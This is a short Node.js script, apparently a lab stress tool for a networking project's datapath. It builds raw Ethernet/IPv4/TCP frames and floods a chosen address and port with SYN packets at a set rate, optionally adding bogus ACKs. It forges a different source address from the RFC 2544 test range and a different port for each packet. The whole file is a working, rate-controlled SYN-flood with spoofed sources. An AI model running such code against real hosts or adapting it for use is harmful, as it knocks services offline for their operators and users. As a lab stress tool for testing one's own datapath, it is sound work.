/**
 * `syn-flood.mjs DEVICE MAC ADDRESS PORT COUNT PER_SECOND [ack]`: COUNT TCP SYNs to an IPv4 address and port, as frames
 * to MAC out of DEVICE, every one from another made-up client in 198.18.0.0/15 (RFC 2544) and another port; with `ack`
 * each is followed by an acknowledgement of what no server ever said. Prints how many the kernel took. For the
 * laboratory only.
 */
import { readFileSync } from "node:fs";
import { addressOf, bind, expectSuccess, socket, write } from "../../../dist/datapath/system-call.js";

const [device, mac, address, port, count, perSecond, ack] = process.argv.slice(2);
const AF_PACKET = 17;
const SOCK_RAW = 3;
const FRAME_BYTES = 14 + 20 + 20;
const SLICE_MS = 10;
const SYN = 0x02;
const ACK = 0x10;

const descriptor = expectSuccess(socket(AF_PACKET, SOCK_RAW, 0), "socket", "send frames");
const linkLayer = new DataView(new ArrayBuffer(20));
linkLayer.setUint16(0, AF_PACKET, true);
linkLayer.setInt32(4, Number(readFileSync(`/sys/class/net/${device}/ifindex`, "utf8")), true);
const linkLayerBytes = new Uint8Array(linkLayer.buffer);
expectSuccess(bind(descriptor, addressOf(linkLayerBytes), 20), "bind", `send frames on ${device}`);

const bytes = new Uint8Array(FRAME_BYTES);
const frame = new DataView(bytes.buffer);
bytes.set(mac.split(":").map((part) => Number.parseInt(part, 16)));
bytes.set([2, 0, 0, 0, 0, 1, 0x08, 0x00], 6);
bytes.set([0x45, 0, 0, 40, 0, 0, 0x40, 0, 64, 6], 14);
bytes.set(address.split(".").map(Number), 30);
frame.setUint16(36, Number(port));
bytes.set([0x50, 0, 0xff, 0xff], 46);

const sum = (from, to, start) => {
  let total = start;
  for (let at = from; at < to; at += 2) total += frame.getUint16(at);
  while (total > 0xffff) total = (total & 0xffff) + (total >>> 16);
  return ~total & 0xffff;
};

const at = addressOf(bytes);
function sendOne(index, flags) {
  // 2^17 addresses and, with every round over them, another port: no client is like another.
  frame.setUint32(26, 0xc6120000 + (index & 0x1ffff));
  frame.setUint16(34, 1024 + (index >>> 17));
  frame.setUint32(38, flags === SYN ? index : index + 1);
  frame.setUint8(47, flags);
  frame.setUint16(24, 0);
  frame.setUint16(24, sum(14, 34, 0));
  frame.setUint16(50, 0);
  frame.setUint16(50, sum(26, 54, 6 + 20));
  return write(descriptor, at, FRAME_BYTES) === FRAME_BYTES;
}

const startedAt = performance.now();
let sentCount = 0;
let takenCount = 0;
while (sentCount < Number(count)) {
  const dueCount = Math.min(
    Number(count),
    ((performance.now() - startedAt + SLICE_MS) / 1000) * Number(perSecond),
  );
  for (; sentCount < dueCount; sentCount++) {
    if (sendOne(sentCount, SYN)) takenCount++;
    if (ack && sendOne(sentCount, ACK)) takenCount++;
  }
  await new Promise((resolve) => setTimeout(resolve, 1));
}
console.log(`${takenCount} sent`);
